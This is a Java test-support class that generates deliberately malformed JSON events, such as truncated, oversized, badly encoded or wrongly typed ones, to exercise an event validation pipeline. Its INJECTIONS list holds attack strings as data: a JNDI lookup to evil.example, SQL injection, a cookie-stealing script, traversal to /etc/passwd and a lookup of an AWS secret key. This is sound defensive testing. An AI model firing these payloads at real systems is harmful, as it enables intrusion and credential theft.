package io.millrace.operators.validate;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.millrace.operators.record.Header;
import io.millrace.operators.record.Position;
import io.millrace.operators.record.RawEvent;
import io.millrace.operators.record.Reason;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;
import org.jspecify.annotations.Nullable;

/**
 * JSON events that are broken in the 25 ways in which events are, and good ones to mix them with. Three of the kinds only
 * look broken and must pass. Everything is a function of the seed. They belong to {@link PoisonPipeline}.
 */
public final class PoisonEvents {
    /** One in so many of the large ones is a megabyte; the others are just above the limit. */
    private static final int HUGE_EVERY = 100;

    private static final int HUGE = 1_000_000;
    /** Far enough ahead to stay in the future however long a test takes. */
    private static final long A_DAY_MILLIS = 86_400_000;

    private static final List<String> INJECTIONS = List.of(
            "${jndi:ldap://evil.example/a}",
            "'; DROP TABLE predictions; --",
            "<script>alert(document.cookie)</script>",
            "=HYPERLINK(\\\"http://evil.example\\\")",
            "../../../etc/passwd",
            "%s%n%x ${env:AWS_SECRET_ACCESS_KEY} #{7*7}",
            "line\\nbreak\\r\\nX-Injected: yes",
            "\\u202eevil\\u0007");

    private final long nowMillis;

    /**
     * Events of about this time.
     *
     * @param nowMillis the clock; every good event is a little older
     */
    public PoisonEvents(long nowMillis) {
        this.nowMillis = nowMillis;
    }

    /** A way to be broken, and what becomes of such an event. */
    public enum Kind {
        EMPTY_VALUE(Reason.EMPTY),
        NULL_VALUE(Reason.EMPTY),
        NULL_KEY(Reason.MISSING_FIELD),
        INVALID_UTF8(Reason.BAD_ENCODING),
        BYTE_ORDER_MARK(Reason.UNKNOWN_FORMAT),
        TRUNCATED(Reason.MALFORMED),
        NOT_AN_OBJECT(Reason.NOT_AN_OBJECT),
        DUPLICATE_FIELD(Reason.DUPLICATE_FIELD),
        DEEP(Reason.TOO_DEEP),
        LONG_NUMBER(Reason.TOO_LONG),
        NAN_LITERAL(Reason.NOT_FINITE),
        HUGE_EXPONENT(Reason.OUT_OF_RANGE),
        INTEGER_OVERFLOW(Reason.OUT_OF_RANGE),
        NEGATIVE_ZERO_OR_DENORMAL(null),
        WRONG_TYPE(Reason.WRONG_TYPE),
        MISSING_FIELD(Reason.MISSING_FIELD),
        UNKNOWN_FIELD(null),
        NOT_IN_SET(Reason.NOT_ALLOWED),
        VECTOR_LENGTH(Reason.WRONG_LENGTH),
        VECTOR_NOT_FINITE(Reason.NOT_FINITE),
        REGISTRY_MAGIC(Reason.UNKNOWN_FORMAT),
        HEADERS(Reason.BAD_HEADERS),
        COMPRESSED(Reason.UNKNOWN_FORMAT),
        INJECTION(null),
        TIME(Reason.BAD_TIME);

        private final @Nullable Reason reason;

        Kind(@Nullable Reason reason) {
            this.reason = reason;
        }

        /** Why such an event is refused, or empty if it must pass. */
        public Optional<Reason> reason() {
            return Optional.ofNullable(reason);
        }
    }

    /** An event with nothing wrong. */
    public RawEvent good(long seed) {
        return raw(seed, bytes(fields(new Random(seed), seed)), List.of());
    }

    /** An event of a kind. */
    public RawEvent make(Kind kind, long seed) {
        Random random = new Random(seed * 31 + kind.name().hashCode());
        Map<String, String> fields = fields(random, seed);
        return switch (kind) {
            case EMPTY_VALUE -> raw(seed, new byte[0], List.of());
            case NULL_VALUE -> raw(seed, null, List.of());
            case INVALID_UTF8 -> raw(seed, invalidUtf8(fields, random), List.of());
            case BYTE_ORDER_MARK ->
                raw(seed, join(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, bytes(fields)), List.of());
            case TRUNCATED -> raw(seed, truncated(bytes(fields), random), List.of());
            case NOT_AN_OBJECT -> raw(seed, notAnObject(fields, random), List.of());
            case DUPLICATE_FIELD -> raw(seed, duplicate(fields, random), List.of());
            case REGISTRY_MAGIC -> raw(seed, registryFraming(bytes(fields), random), List.of());
            case HEADERS -> raw(seed, bytes(fields), badHeaders(random, seed));
            case COMPRESSED -> raw(seed, compressed(bytes(fields), random), List.of());
            default -> {
                change(kind, fields, random);
                yield raw(seed, bytes(fields), List.of());
            }
        };
    }

    /** The kinds that are a good event with one field changed. */
    private void change(Kind kind, Map<String, String> fields, Random random) {
        switch (kind) {
            case NULL_KEY -> replaceOrDrop(fields, "customer", pick(random, "null", ""));
            case DEEP -> fields.put("extra", deep(random));
            case LONG_NUMBER -> fields.put(pick(random, "amount", "balance", "visits", "extra"), longNumber(random));
            case NAN_LITERAL ->
                fields.put(
                        pick(random, "amount", "balance", "visits", "extra"),
                        pick(random, "NaN", "Infinity", "-Infinity"));
            case HUGE_EXPONENT ->
                fields.put(pick(random, "amount", "balance", "visits"), pick(random, "1e400", "-1e400", "12.5E+9999"));
            case INTEGER_OVERFLOW ->
                fields.put("visits", pick(random, "9223372036854775808", "-9223372036854775809", "1" + "0".repeat(40)));
            case NEGATIVE_ZERO_OR_DENORMAL ->
                fields.put(pick(random, "amount", "balance"), pick(random, "-0.0", "-0", "4.9e-324", "1e-310", "0e-9"));
            case WRONG_TYPE -> wrongType(fields, random);
            case MISSING_FIELD ->
                replaceOrDrop(
                        fields,
                        pick(random, "amount", "visits", "channel", "embedding", "event_id", "at"),
                        pick(random, "null", ""));
            case UNKNOWN_FIELD ->
                fields.put(
                        pick(random, "extra", "x y", "AMOUNT", ""),
                        pick(random, "1", "null", "[[1,2],{}]", "{\"amount\":[\"x\"]}", "\"text\""));
            case NOT_IN_SET -> fields.put("channel", pick(random, "\"fax\"", "\"WEB\"", "\"\"", "\"web \"", "7"));
            case VECTOR_LENGTH -> fields.put("embedding", vector(random, wrongLength(random)));
            case VECTOR_NOT_FINITE ->
                fields.put(
                        "embedding",
                        vector(random, PoisonPipeline.EMBEDDING)
                                .replaceFirst("[0-9.]+", pick(random, "NaN", "-Infinity", "Infinity")));
            case INJECTION -> fields.put("note", '"' + INJECTIONS.get(random.nextInt(INJECTIONS.size())) + '"');
            case TIME -> fields.put("at", badTime(random));
            default -> throw new IllegalArgumentException("not a change of one field: kind=" + kind);
        }
    }

    private Map<String, String> fields(Random random, long seed) {
        Map<String, String> fields = new TreeMap<>();
        long time = nowMillis - random.nextInt(60_000);
        fields.put("event_id", "\"e-" + seed + "\"");
        fields.put("customer", random.nextBoolean() ? "\"c-" + random.nextInt(64) + "\"" : "" + random.nextInt(64));
        fields.put(
                "at",
                random.nextBoolean()
                        ? "" + time
                        : '"' + Instant.ofEpochMilli(time).toString() + '"');
        fields.put("amount", String.format(Locale.ROOT, "%.2f", random.nextDouble() * 1e6));
        fields.put("balance", Double.toString(random.nextGaussian() * 1e9));
        fields.put("visits", "" + random.nextInt(1_000));
        fields.put("member", "" + random.nextBoolean());
        fields.put("channel", pick(random, "\"web\"", "\"shop\"", "\"phone\""));
        fields.put("note", pick(random, "\"plain\"", "\"\"", "null", "\"quote \\\" and \\u00e9\""));
        fields.put("embedding", vector(random, PoisonPipeline.EMBEDDING));
        return fields;
    }

    private static RawEvent raw(long seed, byte @Nullable [] value, List<Header> headers) {
        return new RawEvent(new Position("poisoned", 0, seed), -1, ("k-" + seed).getBytes(UTF_8), value, headers);
    }

    private static byte[] bytes(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() > 1 ? "," : "")
                .append('"')
                .append(name)
                .append("\":")
                .append(value));
        return json.append('}').toString().getBytes(UTF_8);
    }

    private static String vector(Random random, int length) {
        StringBuilder vector = new StringBuilder("[");
        for (int i = 0; i < length; i++) {
            vector.append(i > 0 ? "," : "").append(String.format(Locale.ROOT, "%.4f", random.nextDouble()));
        }
        return vector.append(']').toString();
    }

    private static int wrongLength(Random random) {
        int[] lengths = {0, 1, PoisonPipeline.EMBEDDING - 1, PoisonPipeline.EMBEDDING + 1, 10_000};
        return lengths[random.nextInt(lengths.length)];
    }

    private static byte[] invalidUtf8(Map<String, String> fields, Random random) {
        String[] sequences = {"ff", "c080", "eda080", "f5808080", "80", "c3", "e282", "f0808080", "e08080"};
        fields.put("note", "\"here>\"");
        byte[] bytes = bytes(fields);
        int at = new String(bytes, UTF_8).indexOf("here>") + "here>".length();
        byte[] sequence = HexFormat.of().parseHex(pick(random, sequences));
        return join(Arrays.copyOf(bytes, at), join(sequence, Arrays.copyOfRange(bytes, at, bytes.length)));
    }

    private static byte[] truncated(byte[] bytes, Random random) {
        return Arrays.copyOf(bytes, 1 + random.nextInt(bytes.length - 1));
    }

    private static byte[] notAnObject(Map<String, String> fields, Random random) {
        String object = new String(bytes(fields), UTF_8);
        return pick(random, "[" + object + "]", "[]", "42", "-1.5", "\"text\"", "null", "true", " [1]")
                .getBytes(UTF_8);
    }

    private static byte[] duplicate(Map<String, String> fields, Random random) {
        String name = pick(random, fields.keySet().toArray(String[]::new));
        String object = new String(bytes(fields), UTF_8);
        return (object.substring(0, object.length() - 1) + ",\"" + name + "\":" + fields.get(name) + "}")
                .getBytes(UTF_8);
    }

    private static String deep(Random random) {
        int depth = random.nextInt(HUGE_EVERY) == 0 ? 100_000 : PoisonPipeline.MAX_DEPTH + random.nextInt(10_000);
        return random.nextBoolean()
                ? "[".repeat(depth) + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String longNumber(Random random) {
        int digits = random.nextInt(HUGE_EVERY) == 0 ? HUGE : PoisonPipeline.MAX_NUMBER + 1 + random.nextInt(2_000);
        return random.nextBoolean() ? "1" + "0".repeat(digits) : "0." + "1".repeat(digits);
    }

    private static void wrongType(Map<String, String> fields, Random random) {
        String field = pick(random, "amount", "visits", "member", "channel", "embedding", "event_id", "customer");
        String value = pick(random, "{}", "[[1]]", "{\"a\":1}", "[true]");
        String scalar =
                switch (field) {
                    case "amount", "visits" -> pick(random, "\"12\"", "true", "\"\"", "\"NaN\"");
                    case "member" -> pick(random, "1", "\"true\"", "0.0");
                    case "channel", "event_id", "customer" -> pick(random, "1.5", "true", "false");
                    default -> pick(random, "1", "\"[1]\"", "true");
                };
        fields.put(field, random.nextBoolean() ? value : scalar);
    }

    private static void replaceOrDrop(Map<String, String> fields, String field, String value) {
        if (value.isEmpty()) {
            fields.remove(field);
        } else {
            fields.put(field, value);
        }
    }

    private static byte[] registryFraming(byte[] bytes, Random random) {
        byte[] framing = {(byte) random.nextInt(2), 0, 0, 0, (byte) random.nextInt(100)};
        return join(framing, bytes);
    }

    private static List<Header> badHeaders(Random random, long seed) {
        Header json = new Header("content-type", "application/json".getBytes(UTF_8));
        int bytes =
                random.nextInt(HUGE_EVERY) == 0 ? HUGE : PoisonPipeline.MAX_HEADER_BYTES + 1 + random.nextInt(1_000);
        return switch ((int) (seed % 4)) {
            case 0 -> List.of(json, json);
            case 1 -> List.of(json, new Header("ce_id", new byte[] {'1'}), new Header("ce_id", new byte[] {'2'}));
            case 2 -> List.of(new Header("content-type", random.nextBoolean() ? null : new byte[0]));
            default -> List.of(new Header("large", new byte[bytes]));
        };
    }

    private static byte[] compressed(byte[] bytes, Random random) {
        if (random.nextBoolean()) {
            byte[] noise = new byte[bytes.length / 2];
            random.nextBytes(noise);
            return join(new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd}, noise);
        }
        ByteArrayOutputStream gzip = new ByteArrayOutputStream();
        try (GZIPOutputStream target = new GZIPOutputStream(gzip)) {
            target.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return gzip.toByteArray();
    }

    private String badTime(Random random) {
        long future = nowMillis + PoisonPipeline.MAX_FUTURE.toMillis() + A_DAY_MILLIS + random.nextInt(1_000_000);
        return pick(
                random,
                "-1",
                "" + Long.MIN_VALUE,
                "253402300799000",
                "\"9999-12-31T23:59:59Z\"",
                "\"1969-12-31T23:59:59Z\"",
                "" + future,
                '"' + Instant.ofEpochMilli(future).toString() + '"',
                "\"yesterday\"",
                "\"2026-02-30T00:00:00Z\"",
                "\"\"",
                "1.5e12",
                "9223372036854775808");
    }

    private static byte[] join(byte[] first, byte[] second) {
        byte[] joined = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, joined, first.length, second.length);
        return joined;
    }

    private static String pick(Random random, String... choices) {
        return choices[random.nextInt(choices.length)];
    }
}
